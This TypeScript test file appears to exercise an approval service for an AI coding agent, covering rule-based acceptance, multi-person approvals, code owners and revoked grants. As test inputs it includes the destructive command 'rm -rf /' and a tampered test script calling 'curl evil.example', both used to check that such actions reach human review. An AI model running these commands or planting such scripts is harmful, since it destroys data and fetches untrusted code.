import { ServiceError } from '../../shared/service/index.ts';
import type { AgentServer } from '../../shared/service/openhands/types.ts';
import { commentEvent } from '../../test/support/deliveries.ts';
import { told } from '../../test/support/questions/some.ts';
import { playScenes } from '../../test/support/scenes/play-scenes.ts';
import { people, questionsOf, type Scene, withCodes } from '../../test/support/scenes/scene.ts';

const tests = 'under rules: [{ accept: { tool: terminal, command: [npm test] } }]';
const two = 'under rules: [{ ask: { path: "db/**" }, people: 2 }]';
const owned = 'under rules: [{ ask: { path: "db/**" }, owners: true }]';
const fourEyes = 'allow_requester: false';
const deploying = 'under rules: [{ accept: { command: make deploy } }]';
const none = 'under label: agent';

const isGardener = ({ rig: { github } }: Scene) => github.members.add('gardeners/mona');

type Files = Readonly<Record<string, string>>;
const scripts = (test: string) => JSON.stringify({ scripts: { test } });
const same: Files = { 'package.json': scripts('node --test'), 'tools/build.json': '{}' };
const unchanged = 'under rules: [{ accept: { command: npm test, unchanged: [tools/build.json] } }]';
/** In the sandbox, where the default branch has the same ones. */
const has = (files: Files) => (scene: Scene) => {
  const { service, github } = scene.rig;
  for (const [path, text] of Object.entries(same)) github.branchFiles.set(path, text);
  const readFile: AgentServer['readFile'] = async (_, { path }) => {
    const text = files[path];
    const bytes = Buffer.from(text ?? '');
    return { kind: 'known', value: text === undefined ? { kind: 'absent' } : { kind: 'file', bytes } };
  };
  const folder = '/workspace/project/garden';
  Object.assign(service.agent, { readFile, pending: async () => ({ ...told(...scene.pending), folder }) });
};

const extendsBase = ({ rig: { github } }: Scene) => {
  github.newestCommit = '520f7f2a'.repeat(5);
  github.files.set('octo/base', 'rules:\n  - accept: { command: npm test }\n');
};
/** The answer does not arrive, and the agent wants something else then. */
const changesAfterAnswer = ({ rig: { service } }: Scene) => {
  let isRefused = false;
  const action = { id: 'a', at: null, tool: 'terminal', summary: null, risk: 'LOW', thought: null };
  const pending = async () => {
    const command = isRefused ? 'rm -rf /' : 'npm test';
    return told({ ...action, arguments: { kind: 'TerminalAction', command } });
  };
  const answer = async () => {
    isRefused = true;
    throw new ServiceError('unavailable', 'no connection');
  };
  Object.assign(service.agent, { pending, answer });
};
const waitsOn = (scene: Scene) => {
  const pending = async () => ({ ...told(...scene.pending), newest: 'e1' });
  const answer = async () => void scene.rig.service.requests.push('approve');
  Object.assign(scene.rig.service.agent, { pending, answer });
};
const twentyTimes = Array.from({ length: 20 }, (_, at) => `asks ls ${at}`);
const answersFail = (error: string) =>
  `the service has { answerFault: { error: !fault ${error}, taken: false } }`;
/** Ada takes back her grant in the moment in which it would approve. */
const takesBackAtLook = async (scene: Scene) => {
  const { rig } = scene;
  const body = await withCodes(scene, '/reject CODE1');
  const takeBack = async () => {
    const comment = { id: 950, body, user: people.ada };
    const payload = commentEvent(body, { sender: people.ada, comment });
    await rig.store.inbox.put({ id: 'b', event: 'issue_comment', payload, receivedAt: rig.clock.now() });
    await rig.handleDeliveries();
  };
  let isTaken = false;
  const pending = async () => {
    const isGranted = (await questionsOf(scene)).at(1)?.answer;
    if (isGranted && !isTaken) {
      isTaken = true;
      await takeBack();
    }
    return told(...scene.pending);
  };
  Object.assign(rig.service.agent, { pending });
};
/** The answer of a rule is lost, and for a while nobody can read what is pending. */
const loses = (scene: Scene) => {
  let isSent = false;
  const answer = async () => {
    scene.rig.service.requests.push('approve');
    isSent = true;
    throw new ServiceError('answer_unknown', 'reset');
  };
  const until = scene.rig.clock.now() + 150_000;
  const pending = async () => {
    if (isSent && scene.rig.clock.now() < until) throw new ServiceError('unavailable', 'down');
    return told(...scene.pending);
  };
  Object.assign(scene.rig.service.agent, { answer, pending });
};
playScenes`
  an action that is accepted while its files are unchanged runs without a question then
    ${has(same)} | ${unchanged} | asks npm test | sent approve | no questions | decisions rule 1 approve verified
  people are asked where the file that runs is not as on the default branch
    ${has({ ...same, 'package.json': scripts('curl evil.example') })} | ${unchanged} | asks npm test | sent nothing
    1 question
  a question says who may approve it: %s
    under %s | asks npm test | question says %s
    - one permission ~ label: agent ~ Answers count from people with \`write\` access or more.
    - another than to reject ~ permission: { approve: maintain } ~ Approvals count from people with \`maintain\` access or more, rejections with \`write\`.
    - several of them ~ permission: { approve: maintain }\nrules: [{ ask: {}, people: 2 }] ~ Still needed: 2 people with \`maintain\` access.
    - a team ~ teams: [gardeners] | ${isGardener} ~ with \`write\` access or more, in the team \`gardeners\`.
    - somebody else ~ allow_requester: false ~ **Somebody else has to approve**: not who started or instructed the agent.
    - several others ~ allow_requester: false\nrules: [{ ask: {}, people: 2 }] ~ with \`write\` access, not who started or instructed the agent.

  an accepted action runs without a question, and the comment and the decisions name the rule
    ${tests} | asks npm test | sent approve | no questions | decisions rule 1 approve verified
    comment says /✅ allowed by rule 1 of \`octo.garden.\.github.agent-conversations\.yml@\w+\`.*npm test/
    asks rm -rf / | sent approve | 1 question | question says rm -rf /
  a rejected action is refused with the reason, and the agent goes on
    under rules: [{ reject: { tool: terminal }, reason: Not here. }] | asks ls | sent reject Not here., run
    no questions | comment says 🚫 rejected by rule 1 of 
  the comment links to the line of the rule, in the repository and at the commit of its file
    ${extendsBase} | under _extends: base | asks npm test
    comment says /rule 1.\(.*octo.base.blob.(520f7f2a){5}.*yml#L2\) of/
  an action that changed after an answer did not arrive is decided again, and the first decision stays on record
    ${tests} | works | ${changesAfterAnswer} | asks again | sent nothing | question says rm -rf /
    decisions rule 1 approve given_back nothing was sent: it was decided again
  an accepted action that goes on waiting is not accepted again and again: people are asked
    ${waitsOn} | ${tests} | asks npm test | 2m pass | sent approve | 1 question | question says npm test
  an agent that tries again after every rejection is shown to people at last
    under rules: [{ reject: { tool: terminal } }] | ${twentyTimes} | no questions | asks ls | 1 question
  where two people have to approve, one is not enough, the same one counts once, and the second decides
    ${two} | edits db/a.sql | question says **0 of 2 approvals so far** | ada: /approve | sent nothing
    question says /1 of 2 approvals so far.*ada/ | ada: /approve | sent nothing | bob: /approve | sent approve
    decisions ada approve verified; ada approve refused; bob approve verified | 1m passes | ada sees confused
    bob sees +1
  where two people have to approve, a first approval that does not count is told at once
    ${two} | edits db/a.sql | ada (edited): /approve | reply says edited comments do not count | question is open
    approvals nothing
  where two people have to approve, both see at their comments that it was done
    ${two} | edits db/a.sql | ada: /approve | bob: /approve | 1m passes | ada sees +1 | bob sees +1
  an approval of words that were put over the question counts for nobody, is told at once, and it is asked again
    ${two} | edits db/a.sql | wendy rewrites the question | ada: /approve
    reply says /did not say what we wrote there.*Changed last by @wendy/ | question 1 says Out of date | 1m passes
    question is open | 2 questions | approvals nothing | bob: /approve CODE1 | sent nothing | ada: /approve
    bob: /approve | sent approve
  nothing is written over a question that says something else: it is asked again
    ${tests} | asks rm -rf / | wendy rewrites the question | ada (gone): /approve | sent nothing
    question 1 says Out of date | 1m passes | question is open | 2 questions
  a first approval that was edited since does not count when the second comes
    ${two} | edits db/a.sql | ada: /approve | ada edits their comment | bob: /approve | sent nothing | approvals bob
    decisions ada approve given_back; bob approve waiting
  whoever has lost the permission when the answer is sent does not count, and a third person takes their place
    ${two} | edits db/a.sql | ada: /approve | ada may read | bob: /approve | sent nothing
    reply says @ada, you approved this, and may not approve here any more
    reply says The approval of @bob still counts: 1 of 2. | question is open | approvals bob
    question says 1 of 2 approvals so far** (@bob) | cleo: /approve | sent approve
    decisions ada approve given_back; bob approve verified; cleo approve verified
  whoever has told the agent more when the answer is sent does not count, where four eyes are asked for
    ${two}\n${fourEyes} | edits db/a.sql | ada: /approve | ada: /agent or so | bob: /approve | sent nothing
    reply says @ada, you approved this, and have told its agent what to do since
    approvals bob | cleo: /approve | sent approve
  whoever edited an approval may approve again, and then counts
    ${two} | edits db/a.sql | ada: /approve | ada edits their comment | ada: /approve | no replies | approvals ada
    bob: /approve | sent approve | decisions ada approve given_back; ada approve verified; bob approve verified
  whoever approved is told so, and not that nobody had answered, where the agent is stopped before it was enough
    ${two} | edits db/a.sql | ada: /approve | bob: /stop | 2m pass | question says only @ada had approved
    reply says only @ada had approved
  whoever answered is told that the answer was not given to the agent, where its run ends before that
    asks npm test | the service is away | ada: /approve CODE | mona unlabels it | 2m pass
    question says the answer of @ada had not been given to it | reply says the answer of @ada had not been given to it
  whoever approved first is told where the agent wants something else before a second person came
    ${two} | edits db/a.sql | ada: /approve | edits db/b.sql | question 1 says Out of date | 1 reply
    reply says waits for something other than what was shown | ada sees confused | decisions ada approve stale
  an approval is on record as without effect where the second person rejects it
    ${two} | edits db/a.sql | ada: /approve | bob: /reject no | 1m passes | sent reject no, run | ada sees confused
    decisions ada approve given_back bob rejected it; bob reject verified
  an approval is on record as without effect where no second person comes in time
    ${two}\nquestions: { expire: 2h } | edits db/a.sql | ada: /approve | 121m pass | 1m passes
    sent reject not enough people approved it in time, run | ada sees confused
    decisions ada approve given_back they were not enough in time; nobody reject verified
    question says ⌛ Not enough approvals in time | 1 reply
    reply says /⌛ Only @ada approved \`.*\` in time, so \`.*\` was rejected/
  a rule that asks for owners needs a code owner
    ${owned} | owners db/ @bob | edits db/a.sql | question says Still needed: a code owner of \`db/a.sql\`
    ada (admin): /approve | sent nothing | bob: /approve | sent approve
  a rule that asks for owners needs a maintainer of the repository where nobody owns the path
    ${owned} | edits db/a.sql | ada: /approve | sent nothing | bob (maintain): /approve | sent approve
  whoever owned paths when they approved has to own as much when the answer is sent
    ${owned.replace('true', 'true, people: 2')} | owners db/ @bob | edits db/a.sql and db/web/b.js | bob: /approve
    owners db/ @bob\ndb/a.sql @cleo | ada: /approve | sent nothing | reply says do not own all that it needs any more
  a team that GitHub does not show is told, and counts for nobody
    ${owned} | owners db/ @octo/dba | edits db/a.sql | ${({ rig }) => rig.github.members.add('dba/bob')}
    GitHub refuses /memberships/: 403 Resource not accessible by integration | ada: /approve | sent nothing
    reply says **members: read** | bob: /approve | sent approve
  where the agent server takes no rejection of a rule, as many people have to approve as any rule asks for
    ${answersFail('rejected no such request')} | under rules: [{ reject: { tool: terminal } }, { ask: { path: "db/**" }, people: 2 }]
    asks rm -rf / | 1m passes | question says of 2 approvals so far
  after /approve always the very same action needs no answer, another one does, and it can be taken back
    ${none} | asks make docs | ada: /approve always | sent approve | asks make docs | sent approve, approve
    1 question | comment says allowed by \`ada's /approve always\`: \`make docs\` | asks make docs -B
    sent approve, approve | 2 questions | bob: /approve | sent approve, approve, approve | ada: /reject CODE1
    reply says is asked about again from now on | asks make docs | sent approve, approve, approve | 3 questions
  /approve always holds only while its author may approve
    ${none} | asks make docs | ada: /approve always | ada may read | asks make docs | sent approve | 2 questions
  /approve always holds only while its author has told the agent nothing, where four eyes are asked for
    ${none} | asks make docs | ada: /approve always | under ${fourEyes} | ada: /agent and the docs | asks make docs
    sent approve | 2 questions
  /approve always holds until the end of the run, also where that goes on later
    ${none} | asks make docs | ada: /approve always | finishes | ada: /agent once more | asks make docs | sent approve
    2 questions
  /approve always holds for no input to a program that runs
    ${none} | inputs make docs | question does not say always | ada: /approve always | inputs make docs | sent approve
    2 questions
  /approve always counts only this once where two people have to approve
    ${two} | edits db/a.sql | ada: /approve | bob: /approve always | sent approve
    run has { facts: { agent: { grants: null } } }
  /approve always is not taken back by /reject once its run is over
    ${none} | asks make docs | ada: /approve always | finishes | ada: /reject CODE | result refused: already_answered
  a further round rejects what rules reject now
    ${deploying} | asks make deploy | finishes | under rules: [{ reject: { tool: terminal } }]
    ada: /agent please look again | asks make deploy | sent approve, reject, run | no questions
  /approve always is taken back also while its answer is tried again
    ${none} | asks make docs | ada: /approve always | ${answersFail('unavailable later')} | asks make docs | ada: /reject CODE1
    the service has { answerFault: null } | 30s pass | sent approve | question says make docs
  /approve always is taken back however often it has held since
    ${none} | asks make docs | ada: /approve always | ${Array.from({ length: 51 }, () => 'asks make docs')}
    1 question | ada: /reject CODE1 | reply says is asked about again from now on | asks make docs | 2 questions
  /approve always that is taken back while the agent is looked at approves nothing any more
    ${none} | asks make docs | ada: /approve always | ${takesBackAtLook} | asks make docs
    reply says is asked about again from now on | sent approve | 2 questions
  an answer of a rule whose fate nobody knows is not sent again when the pending actions can be read again
    ${tests} | works | ${loses} | asks npm test | 4m pass | sent approve | 2 questions | question says npm test
`;
